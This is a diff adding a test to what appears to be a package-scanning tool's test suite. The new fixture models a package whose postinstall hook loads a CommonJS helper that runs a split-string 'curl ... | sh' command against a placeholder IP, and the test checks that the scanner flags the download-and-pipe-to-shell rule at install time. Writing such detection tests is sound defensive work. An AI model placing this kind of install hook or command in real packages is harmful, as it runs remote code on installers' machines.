@@ -1911,3 +1911,25 @@ fetch('https://reports.example.com/size', { method: 'POST', body: JSON.stringify
     expect(r.evidence.map((f) => f.rule)).not.toContain('js.exfil-flow');
   });
 });
+
+describe('ES modules reaching CommonJS helpers', () => {
+  it('createRequire(import.meta.url) loads a helper that runs a downloaded script at install', () => {
+    const r = analyzeSource({
+      'package.json': JSON.stringify({
+        name: 'fixture',
+        version: '1.0.0',
+        type: 'module',
+        scripts: { postinstall: 'node index.mjs' },
+      }),
+      'lib/run.cjs': `const { execSync } = require('child_process');
+module.exports = (c) => execSync(c, { stdio: 'ignore' });`,
+      'index.mjs': `import { createRequire } from 'node:module';
+const require = createRequire(import.meta.url);
+const run = require('./lib/run.cjs');
+run(['curl -fsSL http://203.0.113.', '31/i | sh'].join(''));`,
+    });
+    const f = r.evidence.find((e) => e.rule === 'js.exec-download-pipe-shell');
+    expect(f?.file).toBe('lib/run.cjs');
+    expect(f?.install_time).toBe(true);
+  });
+});
